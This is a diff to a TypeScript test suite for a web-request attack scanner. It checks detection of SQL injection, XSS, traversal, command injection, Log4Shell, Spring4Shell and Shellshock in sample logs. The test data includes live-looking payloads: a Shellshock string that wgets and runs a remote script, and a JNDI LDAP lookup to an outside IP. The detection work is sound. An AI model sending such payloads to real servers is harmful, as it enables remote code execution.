@@ -16,9 +16,9 @@ async function records(file: string): Promise<LogRecord[]> {
   return out;
 }
 
-/** "class in field" sentences found on one record. */
+/** "class in field" sentences found on one record (two rules of one class in one field read the same). */
 function described(record: LogRecord): string[] {
-  return scanRequest(record)?.findings.map(describeFinding) ?? [];
+  return [...new Set(scanRequest(record)?.findings.map(describeFinding) ?? [])];
 }
 
 async function line(file: string, lineNumber: number): Promise<LogRecord> {
@@ -72,4 +72,116 @@ test('admin/CMS discovery counts only when the site answered 404 (elastic-apache
   assert.equal(probe.path, '/wp-login.php');
   assert.deepEqual(described(probe), ['admin/CMS discovery in path']);
   assert.equal(scanRequest({ ...probe, status: 200 }), null, 'a site that runs WordPress serves its login page');
+});
+
+/** Findings as distinct [class, field kind, field name] triples, for exact comparison. */
+function where(record: LogRecord): [string, string, string | null][] {
+  const seen = new Map<string, [string, string, string | null]>();
+  for (const f of scanRequest(record)?.findings ?? []) seen.set(`${f.class} ${f.field.kind} ${f.field.name}`, [f.class, f.field.kind, f.field.name]);
+  return [...seen.values()];
+}
+
+test('SQL injection and XSS in a query parameter (hub: sqli and xss probing)', async () => {
+  const sqli = await records(`${HUB}/nginx-http-sqli-probing/nginx-http-sqli-probing.log`);
+  assert.deepEqual(described(sqli[1]!), ['SQL injection in query parameter `a`']); // `a=%20union%20all%20select%20`
+  // CrowdSec counts fragments in a bucket; alone, `upper(` or `md5(` is not an attack, the distinctive ones are.
+  const flagged = sqli.filter((r) => scanRequest(r)?.classes.includes('sqli')).map((r) => decodeURIComponent(r.query!.slice(2)));
+  assert.deepEqual(flagged, ['information_schema.tables', ' union all select ', ' union select ', ',null,null', 'benchmark(', 'load_file(', 'selectchar(', '||chr(', 'pg_sleep(', 'sleep(']);
+  const xss = await records(`${HUB}/nginx-http-xss-probing/nginx-http-xss-probing.log`);
+  assert.ok(xss.every((r) => scanRequest(r)?.classes.includes('xss')));
+  assert.ok(described(xss[0]!).includes('XSS in query parameter `a`'));
+});
+
+test('path traversal in the path, double-encoded too (hub: nginx path traversal)', async () => {
+  const rs = await records(`${HUB}/nginx-http-path-traversal/nginx-http-path-traversal.log`);
+  assert.ok(rs.every((r) => scanRequest(r)?.classes.includes('traversal')), 'every line');
+  const doubled = rs.find((r) => r.path === '/%252E%252E%252Ffoo1')!;
+  assert.deepEqual(described(doubled), ['path traversal in path']);
+});
+
+test('command injection in a query parameter: ${IFS} and an unclosed glob `/tmp/*;wget` (hub: CVE-2022-44877, netgear)', async () => {
+  const [, ifs] = await records(`${HUB}/CVE-2022-44877/CVE-2022-44877.log`);
+  assert.deepEqual(where(ifs!).filter(([c]) => c === 'command'), [['command', 'query-value', 'login']]);
+  const [netgear] = await records(`${HUB}/netgear_rce/netgear_rce.log`);
+  assert.ok(described(netgear!).includes('command injection in query parameter `cmd`'));
+});
+
+test('expression injection: OGNL in the path, Commons Text interpolation in a parameter (hub: CVE-2022-26134, CVE-2022-42889)', async () => {
+  const [ognl] = await records(`${HUB}/CVE-2022-26134/CVE-2022-26134.log`);
+  assert.ok(described(ognl!).includes('template/expression injection in path'));
+  assert.ok(described(ognl!).includes('code injection in path'), 'java.lang.Runtime');
+  assert.ok(!described(ognl!).includes('PHP code injection in path'), 'getRuntime().exec( is Java, not PHP');
+  for (const r of await records(`${HUB}/CVE-2022-42889/CVE-2022-42889.log`)) {
+    assert.ok(described(r).includes('template/expression injection in query parameter `search`'), r.query ?? '');
+  }
+});
+
+test('Spring4Shell class-loader manipulation is code injection in the parameter name (hub)', async () => {
+  const rs = await records(`${HUB}/spring4shell_cve-2022-22965/spring4shell_cve-2022-22965.log`);
+  assert.deepEqual(where(rs[1]!), [['code', 'query-name', 'class.module.classLoader.DefaultAsserti…']]);
+  assert.ok(rs.every((r) => scanRequest(r)?.classes.includes('code')));
+});
+
+test('JNDI lookup in the User-Agent of an ALB line, beside a sensitive-file probe (hub: aws-alb-logs)', async () => {
+  const r = await line(`${HUB}/aws-alb-logs/aws-alb-logs.log`, 5);
+  assert.deepEqual(described(r), ['JNDI lookup in User-Agent', 'sensitive-file probe in path']);
+});
+
+test('a tool known by the path it asks for (hub: w00tw00t)', async () => {
+  const [first] = await records(`${HUB}/nginx-http-w00twoot/nginx-http-w00twoot.log`);
+  assert.deepEqual(described(first!), ["attack tool dfind's probe in path"]);
+});
+
+test('Shellshock in the User-Agent and in the Referer (no shared log holds one: a real elastic-apache line carrying the CVE-2014-6271 payload)', async () => {
+  const rs = await records(`${REAL}/elastic-apache/apache_logs.gz`);
+  const base = rs[0]!;
+  assert.equal(scanRequest(base), null);
+  const payload = "() { :;}; /bin/bash -c 'wget http://198.51.100.7/x.sh -O /tmp/x.sh; sh /tmp/x.sh'";
+  assert.ok(described({ ...base, userAgent: payload }).includes('Shellshock in User-Agent'));
+  assert.ok(described({ ...base, referer: payload }).includes('Shellshock in Referer'));
+  // The CVE-2014-6278 variant.
+  assert.ok(described({ ...base, userAgent: '() { _; } >_[$($())] { echo; id; }' }).includes('Shellshock in User-Agent'));
+});
+
+test('SQL injection in the Referer: a real ECShop exploit (secrepo-webhawk)', async () => {
+  const r = await line(`${REAL}/secrepo-webhawk/access.log.2021-10-22`, 327);
+  assert.ok(described(r).includes('SQL injection in Referer'), described(r).join('; '));
+});
+
+test('payloads in a Referer URL are named with its parameter (secrepo-webhawk)', async () => {
+  const r = await line(`${REAL}/secrepo-webhawk/access.log.2021-10-22`, 324);
+  assert.ok(described(r).includes('PHP code injection in Referer (its parameter `refiles[1]`)'), described(r).join('; '));
+  assert.ok(described(r).includes('PHP code injection in query parameter `refiles[1]`'));
+  assert.ok(!scanRequest(r)!.classes.includes('xss'), 'eval($_POST[x]) is PHP, not a JavaScript sink');
+});
+
+test('logged headers are read: Caddy, Kong and Traefik carry them, and real ones are clean', async () => {
+  const caddy = await records(`${HUB}/caddy-logs/caddy-logs.log`);
+  assert.ok(caddy.length > 0 && caddy.every((r) => (r.headers?.length ?? 0) > 0), 'Caddy logs its header map');
+  const kong = await records('../shared/data/formats/kong-json.log');
+  assert.ok(kong.some((r) => r.headers?.some((h) => h.name === 'content-type')));
+  const traefik = await records(`${HUB}/traefik_json/traefik_json.log`);
+  assert.ok(traefik.some((r) => r.headers?.some((h) => h.name === 'X-Forwarded-Host')), 'Traefik request_<Header> fields');
+  // X-Forwarded-*, Accept: */*, Connection… are ordinary: no finding in any header of these real lines.
+  for (const r of [...caddy, ...kong, ...traefik]) {
+    assert.deepEqual(where(r).filter(([, kind]) => kind === 'header' || kind === 'cookie'), [], `${r.source.file}:${r.source.line}`);
+  }
+  // The User-Agent itself is never repeated as a header.
+  assert.ok(caddy.every((r) => !r.headers!.some((h) => h.name.toLowerCase() === 'user-agent')));
+});
+
+test('a payload in a header or a cookie of a real Caddy line is named with the header or cookie', async () => {
+  const [r] = await records(`${HUB}/caddy-logs/caddy-logs.log`);
+  const jndi = '${jndi:ldap://45.155.205.233:12344/Basic/Command/Base64/KGN1cmwg}';
+  const withHeader = { ...r!, headers: [...r!.headers!, { name: 'X-Api-Version', value: jndi }] };
+  assert.deepEqual(described(withHeader), ['JNDI lookup in header `X-Api-Version`']);
+  const withCookie = { ...r!, headers: [...r!.headers!, { name: 'Cookie', value: "_ga=GA1.2.3; session=x%27%20OR%201%3D1--" }] };
+  assert.deepEqual(described(withCookie), ['SQL injection in cookie `session`']);
+  assert.deepEqual(described({ ...r!, host: '${jndi:dns://x.example}' }), ['JNDI lookup in Host header']);
+});
+
+test('real agents, referers and hosts of elastic-apache raise nothing', async () => {
+  const rs = await records(`${REAL}/elastic-apache/apache_logs.gz`);
+  const inHeaders = rs.flatMap((r) => where(r).filter(([, kind]) => kind === 'user-agent' || kind === 'referer' || kind === 'host').map(() => r.source.line));
+  assert.deepEqual(inHeaders, []);
 });
